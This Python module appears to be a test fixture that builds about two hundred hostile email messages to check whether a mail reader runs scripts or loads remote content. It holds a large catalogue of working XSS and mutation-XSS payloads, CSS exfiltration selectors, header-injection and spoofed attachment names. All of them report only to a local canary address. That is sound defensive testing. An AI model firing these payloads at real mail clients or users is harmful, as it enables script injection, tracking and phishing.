"""Two hundred mails that try to run code or load content in the browser of their reader.

    hostile("http://127.0.0.1:1234", recipients)   raw messages; whatever acts asks that address, sets
                                                   `window.sekishoRan`, or puts RAN into the title
"""

import base64
import email.header
import itertools

ACT = "window.sekishoRan=1;top.sekishoRan=1;document.title='RAN';fetch('{canary}/ran')"


def bodies(canary):
    """HTML that runs code, loads content, or navigates away."""
    act = ACT.format(canary=canary)
    quoted = act.replace('"', "&quot;")
    yield f"<script>{act}</script>"
    yield f"<script src={canary}/s.js></script>"
    yield f"<SCRIPT\n>{act}</SCRIPT\n>"
    yield f"<<script>{act}//<</script>"
    yield f"<script/x>{act}</script><!--"
    yield f"<scr<script>ipt>{act}</scr</script>ipt>"
    yield f"<plaintext><script>{act}</script>"
    yield f"<textarea></textarea><script>{act}</script>"
    yield f"<title></title><script>{act}</script>"
    yield f"<xmp><p title=\"</xmp><script>{act}</script>\">"
    yield f"<noscript><p title=\"</noscript><img src=x onerror='{act}'>\"></noscript>"
    yield f"<template><script>{act}</script></template>"
    yield f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={quoted}&gt;\">"
    yield f"<math><mtext><table><mglyph><style><math><img src onerror=\"{quoted}\">"
    yield f"<svg></p><style><a id=\"</style><img src=1 onerror='{act}'>\">"
    yield f"<svg><style><img src=x onerror=\"{quoted}\"></style></svg>"
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src onerror=\"{quoted}\">"
    yield f"<math><annotation-xml encoding=text/html><img src=x onerror=\"{quoted}\"></annotation-xml></math>"
    yield f"<svg><foreignObject><img src=x onerror=\"{quoted}\"></foreignObject></svg>"
    yield f"<svg><desc><img src=x onerror=\"{quoted}\"></desc></svg>"
    yield f"<svg><title><style><img src=x onerror=\"{quoted}\"></style></title></svg>"
    yield f"<svg><script>{act}</script></svg>"
    yield f"<svg><script href='{canary}/s.js'/></svg>"
    yield f"<svg onload=\"{quoted}\"></svg>"
    yield f"<svg><animate onbegin=\"{quoted}\" attributeName=x dur=1s></svg>"
    yield f"<svg><a><animate attributeName=href values=\"javascript:{quoted}\"/><text>x</text></a></svg>"
    yield f"<svg><use href='{canary}/u.svg#a'/></svg>"
    yield f"<svg><image href='{canary}/i.png'/></svg>"
    yield f"<svg><set attributeName=onmouseover to=\"{quoted}\"/></svg>"
    yield f"<meta http-equiv=refresh content='0;url={canary}/refresh'>"
    yield f"<meta http-equiv=refresh content=\"0;url=javascript:{quoted}\">"
    yield f"<meta http-equiv=set-cookie content='a=b'><meta http-equiv=Content-Security-Policy content='default-src *'>"
    yield f"<base href='{canary}/'><a href=x>x</a><img src=y>"
    yield f"<base target=_top><form action='{canary}/form'><input name=a><button autofocus>go</button></form>"
    yield f"<form id=f></form><button form=f formaction=\"javascript:{quoted}\">go</button>"
    yield f"<isindex action=\"javascript:{quoted}\" type=image>"
    yield f"<object data='{canary}/o'></object><embed src='{canary}/e'><applet code='{canary}/a'></applet>"
    yield f"<object data=\"data:text/html;base64,{base64.b64encode(b'<script>' + act.encode() + b'</script>').decode()}\"></object>"
    yield f"<iframe src='{canary}/f'></iframe>"
    yield f"<iframe srcdoc=\"&lt;script&gt;{quoted}&lt;/script&gt;\"></iframe>"
    yield f"<iframe src=\"javascript:{quoted}\"></iframe>"
    yield f"<frameset><frame src='{canary}/f'></frameset>"
    yield f"<portal src='{canary}/p'></portal><fencedframe src='{canary}/q'></fencedframe>"
    yield f"<link rel=stylesheet href='{canary}/l.css'><link rel=preload as=script href='{canary}/l.js'>"
    yield f"<link rel=dns-prefetch href='{canary}'><link rel=prefetch href='{canary}/p'><link rel=icon href='{canary}/i'>"
    yield f"<link rel=modulepreload href='{canary}/m.js'><link rel=manifest href='{canary}/m'>"
    yield f"<style>@import url({canary}/i.css);</style>"
    yield f"<style>body{{background:url({canary}/b.png)}} @font-face{{font-family:x;src:url({canary}/f)}} *{{font-family:x}}</style>"
    yield f"<style>input[value^=a]{{background:url({canary}/v)}}</style><input value=a>"
    yield f"<div style='background:url({canary}/d.png)'>x</div>"
    yield f"<div style='background:\\75rl({canary}/d.png);list-style-image:url({canary}/e)'>x</div>"
    yield f"<div style='position:fixed;inset:0;z-index:99;opacity:0'><a href='{canary}/c'>x</a></div>"
    yield f"<div style=\"behavior:url({canary}/h);width:expression({quoted})\">x</div>"
    yield f"<table background='{canary}/t.png'><tr><td background='{canary}/u.png'>x</td></tr></table>"
    yield f"<body background='{canary}/b.png' onload=\"{quoted}\">"
    yield f"<img src='{canary}/i.png' srcset='{canary}/j.png 2x' lowsrc='{canary}/k.png'>"
    yield f"<picture><source srcset='{canary}/s.png'><img></picture>"
    yield f"<input type=image src='{canary}/i.png'><video poster='{canary}/p.png' src='{canary}/v'></video>"
    yield f"<audio src='{canary}/a' autoplay></audio><track src='{canary}/t'><source src='{canary}/s'>"
    yield f"<video><source onerror=\"{quoted}\"></video>"
    yield f"<details open ontoggle=\"{quoted}\">x</details>"
    yield f"<marquee onstart=\"{quoted}\">x</marquee>"
    yield f"<a href='{canary}/ping' ping='{canary}/p'>x</a>"
    yield f"<a href=\"javascript:{quoted}\">x</a><a href=\" &#14; javascript:{quoted}\">x</a>"
    yield f"<a href=\"java&#10;script:{quoted}\">x</a><a href=\"data:text/html,<script>{quoted}</script>\">x</a>"
    yield f"<area href=\"javascript:{quoted}\"><map name=m><area shape=default href='{canary}/m'></map><img usemap=#m>"
    yield f"<math href=\"javascript:{quoted}\">x</math><math><maction actiontype=statusline xlink:href='{canary}'>x</maction></math>"
    yield f"<p id=csrf name=csrf>x</p><form id=main></form><img name=body><a id=forms></a>"
    yield f"<!--><img src=x onerror=\"{quoted}\">-->"
    yield f"<![CDATA[<img src=x onerror=\"{quoted}\">]]>"
    yield f"<!--[if gte IE 4]><script>{act}</script><![endif]-->"
    yield f"<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><script>{act}</script></html>"
    yield f"<x onclick=\"{quoted}\" tabindex=1 onfocus=\"{quoted}\" autofocus>x</x>"
    yield f"<select autofocus onfocus=\"{quoted}\"><option><img src=x onerror=\"{quoted}\"></select>"
    yield f"<dialog open onclose=\"{quoted}\"><form method=dialog><button autofocus>x</button></form></dialog>"
    yield f"<p popover onbeforetoggle=\"{quoted}\" id=p>x</p><button popovertarget=p>x</button>"
    yield f"<img src=\"x` `<script>{act}</script>\"` `>"
    yield f"<img alt=\"</span><script>{act}</script>\" src='{canary}/x'>"
    yield f"<img alt='\"><svg onload={quoted}>' src=x>"
    yield f"<div xmlns:a='{canary}' a:href='{canary}/x' xml:base='{canary}/'>x</div>"
    yield "<div>" * 3000 + f"<img src=x onerror=\"{quoted}\">" + "</div>" * 3000
    yield "<table><tr><td>" * 400 + f"<script>{act}</script>"
    yield f"+ADw-script+AD4-{act}+ADw-/script+AD4-"
    yield f"\x1b$B<script>\x1b(B{act}</script>"
    yield f"<script\x00>{act}</script\x00>"
    events = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontransitionend", "onpointerenter",
              "onwheel", "oncopy", "onscroll", "onbeforeprint", "onhashchange", "onmessage", "onpageshow", "onresize",
              "onstorage", "onauxclick", "onsecuritypolicyviolation", "onslotchange", "onfocusin", "oncontentvisibilityautostatechange"]
    elements = ["img src=x", "body", "video src=x", "svg", "input autofocus", "div tabindex=0 autofocus"]
    for element, event in itertools.islice(itertools.product(elements, events), 90):
        yield f"<{element} {event}=\"{quoted}\">x"


def subjects(canary):
    """Subjects that would run code if they were not escaped."""
    act = ACT.format(canary=canary)
    yield f"<script>{act}</script>"
    yield f"</title><script>{act}</script>"
    yield f"\"><img src=x onerror={act}>"
    yield f"' onmouseover='{act}"
    yield "{{7*7}}${7*7}<%= 7*7 %>"
    yield "invoice\u202egpj.exe"
    yield "line\u2028two\u2029three\x00\x07"
    yield f"javascript:{act}"
    yield "&lt;script&gt;" + "&#60;img src=x onerror=1&#62;"
    yield "あ" * 500


def names():
    """Names and types of attachments."""
    yield "<img src=x onerror=alert(1)>.html", "text/html"
    yield "..\\..\\evil.svg", "image/svg+xml"
    yield "report\u202efdp.exe", "application/pdf"
    yield "\"; filename=evil.html; x=\"", "text/html"
    yield "a\r\nSet-Cookie: x=1", "application/xhtml+xml"
    yield "evil.js", "text/javascript"
    yield "evil.xml", "text/xml"
    yield "evil.pdf", "text/html; charset=utf-7"
    yield "evil.mht", "multipart/related"
    yield "", "message/rfc822"
    yield "evil.swf", "application/x-shockwave-flash"
    yield "evil.hta", "application/hta"


def hostile(canary, recipients):
    """All of them, raw."""
    plain = f"Read this: {canary}/plain <script>{ACT.format(canary=canary)}</script>\r\n"
    for number, html in enumerate(bodies(canary)):
        yield raw(recipients, f"hostile {number}", plain, html)
    for subject in subjects(canary):
        yield raw(recipients, subject, plain, None)
        yield raw(recipients, "from", plain, None, name=subject)
    for name, kind in names():
        for content in (f"<script>{ACT.format(canary=canary)}</script>", f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{ACT.format(canary=canary)}\"/>"):
            yield raw(recipients, "attached", plain, None, attached=(name, kind, content))


def word(text):
    """A text of any characters as encoded-words."""
    return email.header.Header(text.replace("\r", " ").replace("\n", " "), "utf-8", maxlinelen=70).encode().replace("\n", "\r\n")


def raw(recipients, subject, plain, html, name="Hanako", attached=None):
    """One message, written by hand: a library would refuse to."""
    parts = [f"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{wrapped(plain)}"]
    if html is not None:
        parts.append(f"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{wrapped(html)}")
    if attached:
        file, kind, content = attached
        encoded = "utf-8''" + "".join(f"%{octet:02X}" for octet in file.encode())
        parts.append(f"Content-Type: {kind}\r\nContent-Disposition: attachment; filename*={encoded}\r\n"
                     f"Content-Transfer-Encoding: base64\r\n\r\n{wrapped(content)}")
    body = "".join(f"--limit\r\n{part}\r\n" for part in parts) + "--limit--\r\n"
    kind = "alternative" if html is not None else "mixed"
    number = abs(hash((subject, html, name, attached)))
    return (f"From: {word(name)} <hanako.sato@example.co.jp>\r\nTo: {', '.join(recipients)}\r\nSubject: {word(subject)}\r\n"
            f"Message-ID: <{number}@example.co.jp>\r\nDate: Sun, 22 Nov 2026 06:00:00 +0900\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: multipart/{kind}; boundary=limit\r\n\r\n{body}").encode()


def wrapped(text):
    """Base64 in lines."""
    data = base64.b64encode(text.encode("utf-8", "surrogatepass")).decode()
    return "\r\n".join(data[at:at + 76] for at in range(0, len(data), 76))
